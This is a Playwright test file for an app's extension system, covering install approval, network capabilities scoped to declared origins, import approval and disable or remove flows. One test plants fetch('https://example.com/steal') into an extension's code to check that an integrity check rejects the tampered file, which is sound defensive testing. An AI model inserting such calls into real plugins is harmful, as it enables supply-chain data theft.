import { expect, test, type Page } from '@playwright/test';
import { ExtensionsPanel, sampleFile } from './pages/extensionsPanel';
import { ProjectMenu } from './pages/projectMenu';
import { StudioPage } from './pages/studioPage';
import { startEchoServer } from './support/httpEchoServer.mjs';
import { monacoText, setMonacoText } from './support/monacoEditor';

const CSV = 'name,age\nAda,36\nLin,41';

/** New model ▾ → an extension's kind; the definition editor opens on its template. */
async function newExtensionModel(page: Page, label: string) {
  await page.getByRole('button', { name: 'New model' }).click();
  await page.getByRole('menuitem', { name: `${label} · extension` }).click();
  const editor = page.getByRole('complementary', { name: 'Model editor' });
  await expect(editor.getByRole('textbox', { name: 'Model definition' })).toBeAttached();
  return editor;
}

/** Saves the model open in the editor, closes the editor and puts the model on the flow as a step. */
async function saveAndAdd(page: Page, name: string, version = 1) {
  const editor = page.getByRole('complementary', { name: 'Model editor' });
  await editor.getByRole('button', { name: 'Save model' }).click();
  await expect(editor.getByRole('status')).toHaveText(`Saved as version ${version}`);
  await page.keyboard.press('Escape');
  await expect(editor).toBeHidden();
  if (version === 1) await page.getByRole('button', { name: `Add ${name} to the flow` }).click();
}

/** An empty project with CSV tools installed and one “Parse CSV” step. */
async function csvProject(page: Page): Promise<{ studio: StudioPage; panel: ExtensionsPanel }> {
  const studio = await new StudioPage(page).open();
  await studio.newProject('Empty project');
  await expect(page.getByRole('heading', { name: 'This flow is empty' })).toBeVisible();
  const panel = new ExtensionsPanel(page);
  await panel.open();
  await panel.installSample('csv-tools', 'CSV tools');
  await panel.close();
  await newExtensionModel(page, 'Parse CSV');
  await saveAndAdd(page, 'Parse CSV');
  await expect(studio.step('Parse CSV')).toBeVisible();
  return { studio, panel };
}

async function runWith(page: Page, input: string) {
  await page.getByRole('button', { name: 'Run with…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Run with artifacts' });
  await dialog.getByLabel('Run input').fill(input);
  await dialog.getByRole('button', { name: 'Start run' }).click();
  await expect(dialog).toBeHidden();
}

const refusal = (page: Page, text: string | RegExp) => page.getByRole('alert').filter({ hasText: text });

test('CSV tools installs from its file, its kind is in New model ▾, and its step turns CSV text into a table', async ({
  page,
}, testInfo) => {
  const studio = await new StudioPage(page).open();
  await studio.newProject('Empty project');
  await expect(page.getByRole('heading', { name: 'This flow is empty' })).toBeVisible();
  const panel = new ExtensionsPanel(page);
  await panel.open();
  await expect(panel.dialog).toContainText(
    'No extensions yet. Install one from a file — two samples ship in examples/extensions/.',
  );
  await panel.dialog.screenshot({ path: testInfo.outputPath('extensions-empty.png') });

  await panel.chooseFile(sampleFile('csv-tools'));
  await expect(panel.install).toContainText('CSV tools');
  await expect(panel.install).toContainText('1.0.0');
  await expect(panel.install).toContainText('Conductor Studio');
  await expect(panel.install.getByRole('list', { name: 'Provides' })).toContainText('Parse CSV');
  await expect(panel.install.getByRole('list', { name: 'Asks for' })).toHaveText(
    'Nothing: it runs with no network, no LLM and no keys',
  );
  await panel.dialog.screenshot({ path: testInfo.outputPath('extensions-install-confirm.png') });
  await panel.install.getByRole('button', { name: 'Approve and install' }).click();
  await expect(panel.state('CSV tools')).toHaveText('Enabled');
  await expect(panel.card('CSV tools').getByRole('list', { name: 'CSV tools provides' })).toContainText('Parse CSV');
  await panel.close();

  const editor = await newExtensionModel(page, 'Parse CSV');
  expect(await monacoText(page, 'Model definition')).toContain('"id": "csv-tools"');
  await expect(editor.getByRole('heading', { name: /New model/ })).toBeVisible();
  await saveAndAdd(page, 'Parse CSV');
  await expect(studio.step('Parse CSV')).toContainText('CSV');

  await runWith(page, CSV);
  await expect(studio.stepStatus('Parse CSV')).toHaveText('done', { timeout: 30_000 });
  await studio.selectStep('Parse CSV');
  const table = studio.inspector.getByRole('table');
  // The table's columns are the header's names, in the header's order.
  await expect(table.getByRole('columnheader')).toHaveText(['name', 'age']);
  await expect(table.getByRole('row')).toHaveCount(3);
  await expect(table.getByRole('row').filter({ hasText: 'Ada' }).getByRole('cell')).toHaveText(['Ada', '36']);
  await expect(table.getByRole('row').filter({ hasText: 'Lin' }).getByRole('cell')).toHaveText(['Lin', '41']);
});

test('HTTP request reaches the origin it declares, and a URL on another origin fails naming the capability', async ({
  page,
}, testInfo) => {
  const echo = await startEchoServer(4610, '127.0.0.1');
  try {
    const studio = await new StudioPage(page).open();
    await studio.newProject('Empty project');
    await expect(page.getByRole('heading', { name: 'This flow is empty' })).toBeVisible();
    const panel = new ExtensionsPanel(page);
    await panel.open();
    await panel.installSample('csv-tools', 'CSV tools');
    await panel.chooseFile(sampleFile('http-request'));
    await expect(panel.install.getByRole('list', { name: 'Asks for' })).toHaveText(
      'Reach http://127.0.0.1:4610 over the network',
    );
    await panel.install.getByRole('button', { name: 'Approve and install' }).click();
    await expect(panel.state('HTTP request')).toHaveText('Enabled');
    await expect(panel.card('HTTP request').getByRole('list', { name: 'HTTP request asks for' })).toHaveText(
      'Reach http://127.0.0.1:4610 over the network',
    );
    await panel.dialog.screenshot({ path: testInfo.outputPath('extensions-two.png') });
    await panel.close();

    await newExtensionModel(page, 'HTTP request');
    const template = await monacoText(page, 'Model definition');
    expect(template).toContain('"url": "http://127.0.0.1:4610/"');
    await setMonacoText(
      page,
      'Model definition',
      template.replace('"url": "http://127.0.0.1:4610/"', '"url": "http://127.0.0.1:4610/weather?city=Lisbon"'),
    );
    await saveAndAdd(page, 'HTTP request');
    await expect(studio.step('HTTP request')).toContainText('HTTP');
    await studio.pressRun();
    await expect(studio.stepStatus('HTTP request')).toHaveText('done', { timeout: 30_000 });
    await studio.selectStep('HTTP request');
    await expect(studio.inspector).toContainText('"path": "/weather"');
    await expect(studio.inspector).toContainText('"city": "Lisbon"');
    // The call the conductor made for the agent is on its attempt, with what it came to.
    const calls = studio.inspector.getByRole('list', { name: 'Calls through the conductor' });
    await expect(calls).toContainText('GET http://127.0.0.1:4610/weather?city=Lisbon');
    await expect(calls).toContainText('200');
    await page.screenshot({ path: testInfo.outputPath('http-step.png') });

    await page.getByRole('button', { name: 'Edit model HTTP request' }).click();
    const saved = await monacoText(page, 'Model definition');
    await setMonacoText(
      page,
      'Model definition',
      saved.replace('http://127.0.0.1:4610/weather', 'http://localhost:4610/weather'),
    );
    await saveAndAdd(page, 'HTTP request', 2);
    await studio.pressRun();
    await expect(studio.run(2)).toHaveAccessibleName('Run 2: failed', { timeout: 30_000 });
    await expect(studio.stepStatus('HTTP request')).toHaveText('failed');
    await studio.selectStep('HTTP request');
    await expect(studio.inspector).toContainText('was not granted network access to http://localhost:4610');
    await expect(studio.inspector.getByRole('list', { name: 'Calls through the conductor' })).toContainText('refused');
  } finally {
    await echo.close();
  }
});

test('an exported project carries its extension: the import asks to approve it, and its flow runs only once approved', async ({
  page,
  browser,
}, testInfo) => {
  // Three browsers, each opening the studio and running a flow: more than one test's usual time.
  test.setTimeout(150_000);
  await csvProject(page);
  const exported = await new ProjectMenu(page).exportProject('Definitions only');

  // Another browser: approvals are this browser's, so the copy's extension is not approved there.
  const other = await browser.newContext({ baseURL: testInfo.project.use.baseURL ?? '' });
  try {
    const there = await other.newPage();
    const studio = await new StudioPage(there).open();
    const menu = new ProjectMenu(there);
    await menu.importFile(exported.name, exported.text);
    const asks = menu.dialog('Import project').getByRole('region', { name: 'Extensions in this project' });
    await expect(asks).toContainText('CSV tools');
    await expect(asks.getByRole('list', { name: 'CSV tools asks for' })).toHaveText(
      'Nothing: it runs with no network, no LLM and no keys',
    );
    const approve = asks.getByRole('checkbox', { name: 'Approve these extensions’ capabilities in this browser' });
    await expect(approve).not.toBeChecked();
    await menu.dialog('Import project').screenshot({ path: testInfo.outputPath('import-confirm-extension.png') });
    await menu.confirmImport();
    await expect(there.getByRole('status').filter({ hasText: /^Imported/ })).toBeVisible();
    await expect(studio.step('Parse CSV')).toBeVisible();

    await studio.pressRun();
    await expect(
      refusal(there, 'The run did not start: “CSV tools” 1.0.0 is waiting for your approval.'),
    ).toBeVisible();
    await expect(studio.run(1)).toHaveCount(0);

    const panel = new ExtensionsPanel(there);
    await panel.open();
    await expect(panel.state('CSV tools')).toHaveText('Waiting for your approval');
    await panel.dialog.screenshot({ path: testInfo.outputPath('extensions-waiting.png') });
    await panel.card('CSV tools').getByRole('button', { name: 'Approve CSV tools' }).click();
    await expect(panel.state('CSV tools')).toHaveText('Enabled');
    await expect(panel.card('CSV tools').getByRole('button', { name: 'Approve CSV tools' })).toHaveCount(0);
    await panel.close();
    await runWith(there, CSV);
    await expect(studio.stepStatus('Parse CSV')).toHaveText('done', { timeout: 30_000 });
  } finally {
    await other.close();
  }

  // A third browser ticks the box while importing: the extension is approved there from the start.
  const third = await browser.newContext({ baseURL: testInfo.project.use.baseURL ?? '' });
  try {
    const there = await third.newPage();
    const studio = await new StudioPage(there).open();
    const menu = new ProjectMenu(there);
    await menu.importFile(exported.name, exported.text);
    await menu
      .dialog('Import project')
      .getByRole('checkbox', { name: 'Approve these extensions’ capabilities in this browser' })
      .check();
    await menu.confirmImport();
    await expect(studio.step('Parse CSV')).toBeVisible();
    const panel = new ExtensionsPanel(there);
    await panel.open();
    await expect(panel.state('CSV tools')).toHaveText('Enabled');
    await panel.close();
    await runWith(there, CSV);
    await expect(studio.stepStatus('Parse CSV')).toHaveText('done', { timeout: 30_000 });
  } finally {
    await third.close();
  }
});

test('a disabled extension’s step reads “kind not installed” and does not run; removing one in use says where and waits for a confirm', async ({
  page,
}, testInfo) => {
  const { studio, panel } = await csvProject(page);
  await panel.open();
  await panel.card('CSV tools').getByRole('button', { name: 'Disable CSV tools' }).click();
  await expect(panel.state('CSV tools')).toHaveText('Disabled');
  await panel.close();
  await expect(studio.step('Parse CSV')).toContainText('kind not installed');
  await page.screenshot({ path: testInfo.outputPath('kind-not-installed.png') });
  await studio.pressRun();
  await expect(
    refusal(page, 'The run did not start: “Parse CSV” (flow Main flow) is of a kind not installed.'),
  ).toBeVisible();
  await expect(studio.run(1)).toHaveCount(0);

  await panel.open();
  await panel.card('CSV tools').getByRole('button', { name: 'Enable CSV tools' }).click();
  await expect(panel.state('CSV tools')).toHaveText('Enabled');
  await panel.close();
  await expect(studio.step('Parse CSV')).not.toContainText('kind not installed');
  await runWith(page, CSV);
  await expect(studio.stepStatus('Parse CSV')).toHaveText('done', { timeout: 30_000 });

  await panel.open();
  await panel.card('CSV tools').getByRole('button', { name: 'Remove CSV tools' }).click();
  const confirm = panel.dialog.getByRole('alertdialog', { name: 'Remove CSV tools?' });
  await expect(confirm).toContainText('“CSV tools” is used by the step: Main flow › Parse CSV.');
  await expect(panel.state('CSV tools')).toHaveText('Enabled');
  await confirm.getByRole('button', { name: 'Keep it' }).click();
  await expect(confirm).toBeHidden();
  await expect(panel.card('CSV tools')).toBeVisible();

  await panel.card('CSV tools').getByRole('button', { name: 'Remove CSV tools' }).click();
  await confirm.getByRole('button', { name: 'Remove anyway' }).click();
  await expect(panel.card('CSV tools')).toHaveCount(0);
  await expect(panel.dialog).toContainText('No extensions yet.');
  await panel.close();
  await expect(studio.step('Parse CSV')).toContainText('kind not installed');
});

test('a file whose code does not match its manifest, dropped on the panel, shows the problem and installs nothing', async ({
  page,
}) => {
  const studio = await new StudioPage(page).open();
  await studio.newProject('Empty project');
  const sample = sampleFile('csv-tools');
  const file = JSON.parse(sample.text) as { code: string };
  file.code = file.code.replace("'use strict';", "'use strict';\nfetch('https://example.com/steal');");
  const panel = new ExtensionsPanel(page);
  await panel.open();
  await panel.dropFile({ name: 'csv-tools-tampered.conductor-extension.json', text: JSON.stringify(file, null, 2) });
  const problems = panel.install.getByRole('list', { name: 'Problems' });
  await expect(problems).toContainText(/^At code: the code's sha256 is [0-9a-f]{64} but the manifest says bc7c32b4/);
  await expect(panel.install.getByRole('alert')).toContainText('nothing was changed');
  await expect(panel.install.getByRole('button', { name: 'Approve and install' })).toHaveCount(0);
  // The drop was the panel's: the studio did not take the file for a project import.
  await expect(page.getByRole('dialog', { name: 'Import project' })).toHaveCount(0);
  await panel.install.getByRole('button', { name: 'Back' }).click();
  await expect(panel.dialog).toContainText('No extensions yet.');
  await panel.close();
  await page.getByRole('button', { name: 'New model' }).click();
  await expect(page.getByRole('menuitem', { name: 'Script' })).toBeVisible();
  await expect(page.getByRole('menuitem', { name: /Parse CSV/ })).toHaveCount(0);
});
